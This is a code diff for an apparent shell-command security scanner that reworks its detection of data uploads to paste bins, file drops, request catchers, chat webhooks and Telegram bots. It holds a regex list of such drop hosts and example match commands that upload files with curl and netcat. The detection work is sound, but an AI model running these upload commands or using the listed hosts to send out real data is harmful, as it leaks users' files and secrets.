@@ -6,7 +6,7 @@
  */
 import type { Rule } from '../rule.js';
 import type { ShellCommand } from '../shell/model.js';
-import { CURL_VALUED, effectsOf, opts, parseOpts, resolveIn, type Send } from '../effects/index.js';
+import { CURL_VALUED, effectsOf, isDropUrl, opts, parseOpts, resolveIn, type Send } from '../effects/index.js';
 import { idiomRule, writtenText } from './idioms.js';
 
 /** localhost, 127/8, ::1, 0.0.0.0 and the Docker host alias: not another host. */
@@ -16,12 +16,6 @@ export function isLoopbackHost(host: string): boolean {
 
 // mail handed to a local SMTP server is relayed on: the loopback host is not where it ends
 const remoteSends = (sends: Send[]) => sends.filter((s) => s.channel === 'mail' || !isLoopbackHost(s.host));
-
-/** Services that take anonymous uploads or catch any request for someone to read later: paste
- * bins, file drops, request catchers, chat webhooks (data posted there is published). */
-const DROP_HOST = /^(?:[\w-]+\.)*(?:file\.io|transfer\.sh|0x0\.st|paste\.rs|pastebin\.com|paste\.ee|hastebin\.com|ghostbin\.\w+|termbin\.com|ix\.io|sprunge\.us|dpaste\.(?:com|org)|webhook\.site|requestbin\.(?:com|net)|pipedream\.net|m\.pipedream\.net|hookbin\.com|beeceptor\.com|requestcatcher\.com|mockbin\.org|anonfiles\.com|gofile\.io|catbox\.moe|temp\.sh|bashupload\.com|oshi\.at|filebin\.net|keep\.sh|interact\.sh|oast\.(?:fun|live|me|online|pro|site)|burpcollaborator\.net|ngrok\.io|ngrok-free\.app|hooks\.slack\.com|api\.telegram\.org)$/;
-/** Chat webhooks named by their path on a shared host. */
-const DROP_URL = /\bhttps?:\/\/(?:ptb\.|canary\.)?discord(?:app)?\.com\/api\/webhooks\//i;
 
 /** The URLs of a command's arguments (host lower-cased, path kept). */
 const urlsOf = (c: ShellCommand) => c.argv.slice(1).flatMap((a) => [...a.matchAll(/\bhttps?:\/\/[^\s"'<>]+/gi)].map((m) => m[0]));
@@ -42,12 +36,18 @@ function sendsBody(c: ShellCommand): boolean {
   return false;
 }
 
-/** True when the command sends data to a paste bin, file drop, request catcher or chat webhook:
- * an HTTP body to one of {@link DROP_HOST} or {@link DROP_URL}, or netcat to termbin. */
+/** A Telegram bot's send method: the request sends its query string whatever the HTTP method. */
+const TELEGRAM_SEND = /^https?:\/\/api\.telegram\.org\/bot[^/\s]+\/send\w+\?\S*=/i;
+
+/** True when the command sends data to a paste bin, file drop, request catcher, chat webhook or
+ * quick tunnel (the shared list, `DROP_HOSTS` / `DROP_URL` in src/inspection/effects/network.ts):
+ * an HTTP body to one, a Telegram bot send method with its data in the query string, or netcat to termbin. */
 function sendsToDrop(c: ShellCommand): boolean {
   if (/^(?:nc|ncat|netcat)$/.test(c.name)) return c.argv.slice(1).some((a) => /^termbin\.com$/i.test(a));
+  const urls = urlsOf(c);
+  if (/^(?:curl|wget)$/.test(c.name) && urls.some((u) => TELEGRAM_SEND.test(u))) return true;
   if (!sendsBody(c)) return false;
-  return urlsOf(c).some((u) => DROP_URL.test(u) || DROP_HOST.test((/^https?:\/\/(?:[^/@]*@)?([^/:?#]+)/i.exec(u)?.[1] ?? '').toLowerCase()));
+  return urls.some(isDropUrl);
 }
 
 /** True when the command packs or encrypts data under a passphrase: zip -P/-e/--password, 7z a
@@ -426,7 +426,7 @@ export const EXFIL_RULES: Rule[] = [
     category: 'exfiltration',
     action: 'record',
     attack: 'T1567',
-    description: 'An HTTP body (curl -d/-F/-T, wget --post-*, Invoke-WebRequest/Invoke-RestMethod -Method POST/-Body/-InFile) sent to a paste bin, anonymous file drop, request catcher or chat webhook (file.io, transfer.sh, 0x0.st, pastebin, webhook.site, requestbin, pipedream, Discord/Slack webhooks, Telegram bots, ngrok, interact.sh), or netcat to termbin.',
+    description: 'An HTTP body (curl -d/-F/-T, wget --post-*, Invoke-WebRequest/Invoke-RestMethod -Method POST/-Body/-InFile) sent to a paste bin, anonymous file drop, request catcher, chat webhook or quick tunnel (file.io, transfer.sh, 0x0.st, pastebin, rentry, webhook.site, requestbin, pipedream, interact.sh, Burp Collaborator, Discord/Slack/Teams webhooks, Telegram bots, ngrok, trycloudflare.com, loca.lt), a Telegram bot send method carrying its data in the URL, or netcat to termbin.',
     help: 'Whatever is sent is published to, or kept for, whoever holds the link. Check what the data is and who asked for the upload.',
     examples: {
       match: ['curl -F "file=@report.txt" https://file.io/', 'curl --upload-file ./notes.txt https://transfer.sh/notes.txt', 'cat log | nc termbin.com 9999', 'curl -X POST -d @out.json https://webhook.site/abc'],
